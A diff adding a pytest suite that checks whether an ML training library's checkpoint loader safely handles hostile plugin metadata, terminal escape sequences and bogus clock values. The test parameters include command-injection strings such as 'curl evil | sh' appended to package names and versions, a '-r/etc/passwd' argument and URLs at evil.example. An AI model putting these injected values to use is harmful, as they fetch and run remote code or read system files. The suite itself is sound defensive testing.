@@ -1,0 +1,97 @@
+"""What a checkpoint says is somebody else's word: into a terminal, a command of pip, or the clock it goes checked."""
+
+import json
+import shutil
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner
+
+from engine_core.callbacks.checkpoint_saver import CheckpointSaver
+from engine_core.checkpoint import read_manifest, resolve
+from engine_core.cli import main
+from engine_core.errors import CheckpointError
+from engine_core.trainer.comparing import differences, what_is_missing
+
+from .parts import trainer
+from .test_checkpoint_fuzz import sign
+
+EVIL = "\x1b[2J\n\r\u202e"
+ENTRY: dict[str, Any] = {"name": "BlurPool", "registered": "blurpool", "distribution": "a-plugin", "version": "1.2"}
+
+
+@pytest.fixture(scope="module")
+def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("saved")
+    with trainer(callbacks=[CheckpointSaver(folder)]) as made:
+        made.fit()
+    return resolve(folder)
+
+
+def test_a_missing_plugin_is_pinned_for_pip() -> None:
+    assert what_is_missing(ENTRY) == (
+        "the saved run had BlurPool (a-plugin 1.2): pip install a-plugin==1.2, and add 'blurpool' to algorithms"
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("distribution", "git+https://evil.example/x.git; curl evil | sh #"),
+        ("distribution", "-r/etc/passwd"),
+        ("distribution", "a-plugin[extra]"),
+        ("distribution", "a-plugin @ https://evil.example/x.whl;"),
+        ("distribution", f"a-plugin{EVIL}"),
+        ("distribution", 7),
+        ("version", "1.2; curl evil | sh"),
+        ("version", "1.2,>=0"),
+        ("version", "?"),
+        ("version", None),
+    ],
+)
+def test_only_the_name_and_version_of_a_distribution_come_into_a_command(name: str, value: Any) -> None:
+    assert "pip install" not in what_is_missing({**ENTRY, name: value})
+
+
+@pytest.mark.parametrize("text", [f"x{EVIL}", "1.2\n\n"])
+@pytest.mark.parametrize("name", ENTRY)
+def test_a_missing_plugin_is_told_of_in_one_line_that_commands_no_terminal(name: str, text: str) -> None:
+    assert what_is_missing({**ENTRY, name: text}).isprintable()
+
+
+def test_differences_command_no_terminal_either() -> None:
+    now: dict[str, Any] = {**ENTRY, "settings": {}}
+    then = {**now, "distribution": EVIL, "version": EVIL, "settings": {f"rate{EVIL}": EVIL}}
+    order = {"a" + EVIL: ["BlurPool"]}
+    versions = {"torch": "2"}
+    told = differences(
+        {"algorithms": [then], "order": order, "versions": {"torch": EVIL}, "training": {"loss_fn": EVIL}},
+        {"algorithms": [now], "order": {}, "versions": versions, "training": {"loss_fn": "MSELoss"}},
+    )
+    assert len(told) == 5
+    assert all(line.isprintable() for line in told)
+
+
+def test_show_prints_nothing_that_a_terminal_obeys(saved: Path, tmp_path: Path) -> None:
+    folder = tmp_path / "hostile"
+    shutil.copytree(saved, folder)
+    manifest = read_manifest(saved)
+    manifest |= {"run_name": f"x{EVIL}seed  1", "versions": {f"torch{EVIL}": EVIL}, "machine": {EVIL: EVIL}}
+    sign(folder, manifest)
+    lines = CliRunner().invoke(main, ["checkpoint", "show", str(folder)]).output.removesuffix("\n").split("\n")
+    assert len(lines) == 4 + 1 + 1 + 3
+    assert all(line.isprintable() for line in lines)
+
+
+@pytest.mark.parametrize("value", [10**400, 2**63, -1, 1e308, True, "1", None], ids=lambda value: f"{value!r:.20}")
+@pytest.mark.parametrize("unit", ["epoch", "batch", "token_in_epoch", "elapsed_s"])
+def test_a_clock_that_no_run_has_is_refused(unit: str, value: Any, saved: Path, tmp_path: Path) -> None:
+    folder = tmp_path / "hostile"
+    shutil.copytree(saved, folder)
+    state = json.loads((folder / "state.json").read_text())
+    state["clock"][unit] = value
+    (folder / "state.json").write_text(json.dumps(state))
+    sign(folder, read_manifest(folder))
+    with pytest.raises(CheckpointError, match=f"the clock in the checkpoint has {unit}="):
+        trainer(load_path=folder)
